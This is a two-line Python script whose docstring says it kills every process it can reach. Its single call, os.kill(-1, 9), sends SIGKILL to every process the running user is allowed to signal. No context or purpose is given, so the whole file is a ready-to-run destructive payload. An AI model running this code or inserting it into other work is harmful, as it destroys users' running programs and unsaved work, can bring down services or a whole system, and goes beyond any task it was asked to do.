"""Kills every process that it can reach."""

import os

os.kill(-1, 9)
